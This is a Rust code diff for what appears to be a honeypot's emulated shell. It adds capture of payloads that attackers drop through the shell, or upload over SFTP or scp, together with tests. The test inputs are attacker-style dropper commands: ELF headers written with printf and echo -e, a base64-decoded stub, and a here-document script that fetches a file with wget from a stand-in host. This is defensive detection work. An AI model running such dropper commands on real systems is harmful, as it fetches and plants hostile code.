@@ -39,8 +39,9 @@ pub const MAX_VARS: usize = 512;
 pub const MAX_VALUE: usize = 256 * 1024;
 /// Lines of unfinished input (`> ` continuation) kept before the shell gives up on them.
 pub const MAX_PENDING: usize = 64 * 1024;
-/// Bytes of a dropped payload carried in its event.
-pub const MAX_PAYLOAD: usize = 8 * 1024 * 1024;
+/// Bytes of a dropped payload carried in its event and kept as its artifact:
+/// the cap SFTP and scp uploads have.
+pub const MAX_PAYLOAD: usize = crate::kit::artifact::MAX_ARTIFACT;
 
 /// What the shell shows about the machine.
 #[derive(Debug, Clone)]
@@ -422,6 +423,8 @@ pub enum ShellEvent {
         path: String,
         /// Its bytes (at most [`MAX_PAYLOAD`]).
         data: Vec<u8>,
+        /// Its length in all.
+        size: u64,
         /// SHA-256 of `data`, lower-case hex.
         sha256: String,
         /// Whether the file was longer than [`MAX_PAYLOAD`] and `data` is its start.
@@ -724,14 +727,14 @@ impl State {
         let term = std::mem::take(&mut run.term);
         let mut events = std::mem::take(&mut run.events);
         drop(run);
-        for (path, mut data) in payloads {
-            let truncated = data.len() > MAX_PAYLOAD;
-            data.truncate(MAX_PAYLOAD);
+        for (path, data, size) in payloads {
+            let truncated = size > data.len();
             let sha256 = hex::encode(sha2::Sha256::digest(&data));
             if self.reported.insert(sha256.clone()) {
                 events.push(ShellEvent::Upload {
                     path,
                     data,
+                    size: size as u64,
                     sha256,
                     truncated,
                     command: trimmed.to_owned(),
@@ -809,6 +812,21 @@ impl Shell {
     /// The session state.
     pub fn state(&self) -> &State {
         &self.state
+    }
+
+    /// Puts a file that arrived over SFTP or scp into the session filesystem,
+    /// as the logged-in user (relative names start at the home directory). It
+    /// was captured on arrival, so it is not reported again as a shell payload;
+    /// a file the user could not have written there is left out, as the
+    /// transfer would have failed on a real host.
+    pub fn receive(&mut self, name: &str, data: &[u8]) {
+        let st = &mut self.state;
+        let path = fs::resolve(&st.home, &st.home, name);
+        let now = st.now();
+        if st.fs.write(&path, data, false, st.uid, now).is_ok() {
+            // Between command lines nothing else is waiting to be reported.
+            st.fs.take_dirty();
+        }
     }
 
     /// What a login shows: the prompt.
@@ -1296,6 +1314,119 @@ pub(crate) mod tests {
         assert!(
             !ev.iter().any(|e| matches!(e, ShellEvent::Upload { .. })),
             "plain text is no payload"
+        );
+    }
+
+    fn uploads(ev: &[ShellEvent]) -> Vec<(String, Vec<u8>, u64)> {
+        ev.iter()
+            .filter_map(|e| match e {
+                ShellEvent::Upload {
+                    path, data, size, ..
+                } => Some((path.clone(), data.clone(), *size)),
+                _ => None,
+            })
+            .collect()
+    }
+
+    #[test]
+    fn elf_headers_written_by_printf_and_echo_e_are_captured_byte_exact() {
+        let mut sh = Shell::new(persona("debian"), "root");
+        let (_, ev, _) = sh.exec(
+            r"cd /tmp; printf '\x7f\x45\x4c\x46\x02\x01\x01\x00\x00' > .p; echo -e '\x7fELF\x01\x01\x01\x00bot' > /dev/shm/.e",
+        );
+        assert_eq!(
+            uploads(&ev),
+            vec![
+                (
+                    "/dev/shm/.e".to_owned(),
+                    b"\x7fELF\x01\x01\x01\x00bot\n".to_vec(),
+                    12
+                ),
+                (
+                    "/tmp/.p".to_owned(),
+                    b"\x7fELF\x02\x01\x01\x00\x00".to_vec(),
+                    9
+                ),
+            ]
+        );
+        // Appending makes new content, captured again; the old bytes stay captured.
+        let (_, ev, _) = sh.exec(r"printf '\x03\x00' >> /tmp/.p");
+        assert_eq!(
+            uploads(&ev),
+            vec![(
+                "/tmp/.p".to_owned(),
+                b"\x7fELF\x02\x01\x01\x00\x00\x03\x00".to_vec(),
+                11
+            )]
+        );
+    }
+
+    #[test]
+    fn base64_and_here_document_droppers_are_captured() {
+        let mut sh = Shell::new(persona("debian"), "root");
+        // "\x7fELF\x02\x01\x01\x00" in base64.
+        let (_, ev, _) = sh.exec("echo f0VMRgIBAQA= | base64 -d > /tmp/b");
+        assert_eq!(
+            uploads(&ev),
+            vec![("/tmp/b".to_owned(), b"\x7fELF\x02\x01\x01\x00".to_vec(), 8)]
+        );
+        let (_, ev, _) =
+            sh.exec("cat > /tmp/h.sh <<'EOF'\n#!/bin/sh\nwget -q http://198.51.100.7/x\nEOF\n");
+        assert_eq!(
+            uploads(&ev),
+            vec![(
+                "/tmp/h.sh".to_owned(),
+                b"#!/bin/sh\nwget -q http://198.51.100.7/x\n".to_vec(),
+                40
+            )]
+        );
+    }
+
+    #[test]
+    fn a_file_made_executable_is_captured_when_chmod_runs() {
+        let mut sh = Shell::new(persona("debian"), "root");
+        let (_, ev, _) = sh.exec("echo 'id; uname -a' > /tmp/run");
+        assert!(uploads(&ev).is_empty(), "plain text is no payload yet");
+        let (_, ev, _) = sh.exec("chmod +x /tmp/run");
+        assert_eq!(
+            uploads(&ev),
+            vec![("/tmp/run".to_owned(), b"id; uname -a\n".to_vec(), 13)]
+        );
+    }
+
+    #[test]
+    fn large_text_is_captured_and_shipped_files_are_not() {
+        let mut sh = Shell::new(persona("debian"), "root");
+        let (_, ev, _) = sh.exec("seq 1 3000 > /tmp/small");
+        assert!(uploads(&ev).is_empty(), "{ev:?}");
+        let (_, ev, _) = sh.exec("seq 1 5000 > /tmp/big");
+        let up = uploads(&ev);
+        assert_eq!(up.len(), 1, "{ev:?}");
+        assert!(up[0].2 >= cmd::PAYLOAD_SIZE as u64, "{}", up[0].2);
+        // chmod of what the distro ships, or a copy of a program, is no capture.
+        let (_, ev, _) = sh.exec("chmod 755 /etc/hostname; touch /etc/passwd; cp /bin/ls /tmp/ls");
+        assert!(uploads(&ev).is_empty(), "{ev:?}");
+    }
+
+    #[test]
+    fn files_uploaded_on_the_connection_are_in_the_shell_and_not_reported_again() {
+        let mut sh = Shell::new(persona("debian"), "root");
+        sh.receive("/tmp/x.bin", b"\x7fELF\x02uploaded");
+        sh.receive("rel.sh", b"#!/bin/sh\n");
+        sh.receive("/nonexistent/dir/f", b"lost");
+        let (out, ev, _) = sh.exec("ls /tmp; cat /root/rel.sh");
+        assert_eq!(
+            out,
+            b"x.bin\n#!/bin/sh\n",
+            "{}",
+            String::from_utf8_lossy(&out)
+        );
+        assert!(uploads(&ev).is_empty(), "{ev:?}");
+        let (_, ev, _) = sh.exec("chmod +x /tmp/x.bin");
+        assert_eq!(
+            uploads(&ev).len(),
+            1,
+            "changed mode on an upload is captured by the shell"
         );
     }
 
